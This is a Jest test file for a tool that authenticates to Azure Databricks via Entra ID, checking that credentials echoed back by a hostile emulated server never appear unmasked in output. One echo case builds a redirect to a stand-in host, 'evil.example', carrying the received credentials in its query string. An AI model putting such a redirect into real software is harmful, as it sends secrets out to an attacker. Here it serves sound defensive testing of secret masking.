import { describe, expect, test } from '@jest/globals'

import { EmulatedEntra } from '../../emulator/entra.js'
import { EmulatedGitHub } from '../../emulator/github.js'
import { apiError, html, json, redirect, text, type Reply } from '../../emulator/reply.js'
import { TlsFront } from '../../emulator/tls-front.js'
import { EmulatedWorkspace } from '../../emulator/workspace.js'
import { CLIENT_ID, SUBJECT, signInTo } from '../e2e/sign-in/service-principal.js'
import { findLeaks, findUnmasked } from './leak-search.js'
import { spellingsOf } from './spellings.js'

const TENANT = '00000000-0000-4000-8000-00000000007e'
const SECRET = 'fake~Entra.secret_8Q~x+/=%25'

/** How a server may echo the credentials that it received. */
const ECHOES: readonly (readonly [string, (sent: string) => Reply])[] = [
  [
    'in an error of Entra ID',
    (sent) => json(401, { error: 'invalid_client', error_description: `AADSTS1: ${sent}` }),
  ],
  ['in an error of Databricks', (sent) => apiError(401, 401, sent)],
  ['in a page', (sent) => html(502, `<pre>${sent}</pre>`)],
  ['as text', (sent) => text(500, sent)],
  ['in a redirect', (sent) => redirect(`https://evil.example/?${encodeURIComponent(sent)}`)],
]

// A secret or a token of Entra ID gives all permissions of its application, in the whole of Azure.
describe.each(['azure-client-secret', 'github-oidc-azure'])('authentication with %s', (authType) => {
  test.each(
    ECHOES.flatMap(
      ([how, answer]) =>
        [
          ['Entra ID', how, answer],
          ['the workspace', how, answer],
        ] as const,
    ),
  )('shows no credential that %s shows %s', async (who, _, answer) => {
    const github = await EmulatedGitHub.start({ subject: SUBJECT, requestToken: 'fake-request~token+/=' })
    const { issuer, jwksUri } = github
    const trusted = { issuer, subject: SUBJECT, audience: 'api://AzureADTokenExchange', jwksUri }
    const entra = await EmulatedEntra.start({
      tenantId: TENANT,
      apps: [{ clientId: CLIENT_ID, clientSecrets: [SECRET], federatedCredentials: [trusted] }],
    })
    const workspace = await EmulatedWorkspace.start({
      servicePrincipals: [{ applicationId: CLIENT_ID }],
      entra,
    })
    const front = await TlsFront.start({
      'adb-1.2.azuredatabricks.net': workspace.url,
      'login.microsoftonline.com': entra.url,
    })
    const hostile = who === 'Entra ID' ? entra : workspace
    hostile.intercept(({ headers, rawBody }) =>
      answer(
        [headers.authorization, rawBody.toString(), ...new URLSearchParams(rawBody.toString()).values()].join(
          ' ',
        ),
      ),
    )
    const step = await signInTo(
      { workspace },
      {
        host: 'https://adb-1.2.azuredatabricks.net',
        'azure-client-id': CLIENT_ID,
        'azure-tenant-id': TENANT,
        ...(authType === 'azure-client-secret' && { 'azure-client-secret': SECRET }),
      },
      { runnerVariables: { ...front.variables, no_proxy: '127.0.0.1', ...github.variables } },
    )
    const sent = hostile.requests.all.map(({ headers, rawBody }) => [
      /Bearer (.*)/.exec(headers.authorization ?? '')?.[1],
      new URLSearchParams(rawBody.toString()).get('client_assertion'),
    ])
    await Promise.all([front.close(), workspace.close(), entra.close(), github.close()])
    const credentials = [
      ...sent.flat(),
      ...entra.tokens.issued.map(({ token }) => token),
      'fake-request~token+/=',
    ]
    if (authType === 'azure-client-secret') credentials.push(SECRET)
    const spellings = credentials.flatMap((each) =>
      typeof each === 'string' ? spellingsOf(Buffer.from(each)) : [],
    )
    expect(step.exitCode).toBe(1)
    expect(hostile.requests.all.length).toBeGreaterThan(0)
    expect([...findLeaks(step, spellings), ...findUnmasked(step, spellings)].slice(0, 5)).toEqual([])
  })
})
